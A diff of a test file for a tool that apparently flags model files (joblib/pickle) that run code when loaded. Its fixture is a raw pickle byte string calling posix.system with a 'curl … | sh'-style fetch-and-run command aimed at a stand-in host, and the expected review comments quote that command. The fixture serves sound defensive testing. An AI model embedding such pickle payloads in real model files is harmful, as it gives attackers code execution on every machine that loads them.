@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 
 import { threadOf, World } from "../support/world.js";
 
-const RUNS = Buffer.from("\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0acurl a|sh`\x85R.", "latin1");
+const RUNS = Buffer.from("\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0acurl a | b\x85R.", "latin1");
 const HARMLESS = Buffer.from("\x80\x04}\x8c\x01aK\x01s.", "latin1");
 const LOADS = 'import joblib\n\n\ndef model():\n    return joblib.load("models/m.joblib")\n';
 
@@ -26,10 +26,10 @@ describe("a file that runs code when it is loaded", () => {
     const thread = threadOf(one);
     expect(thread.path).toBe("models/m.joblib");
     expect(thread.comments[0]?.body).toContain(
-      "**Loading this file calls `posix.system('curl a|sh')`, which starts programs.**",
+      "**Loading this file calls `posix.system('curl a | b')`, which starts programs.**",
     );
     expect(thread.comments[0]?.body).toMatchSnapshot();
-    expect(reads).toHaveLength(4);
+    expect(reads).toEqual([]);
   });
 
   test("is seen where it takes the place of a harmless one, and its comment is closed when it is gone", async () => {
@@ -38,7 +38,7 @@ describe("a file that runs code when it is loaded", () => {
     expect(world.check(one).conclusion).toBe("failure");
     await world.push(one, { "models/m.joblib": HARMLESS });
     expect(world.check(one).conclusion).toBe("success");
-    expect(threadOf(one).resolvedBy).not.toBeNull();
+    expect(threadOf(one).comments[0]?.minimized).toBe("RESOLVED");
   });
 
   test("is named by the comment on the load", async () => {
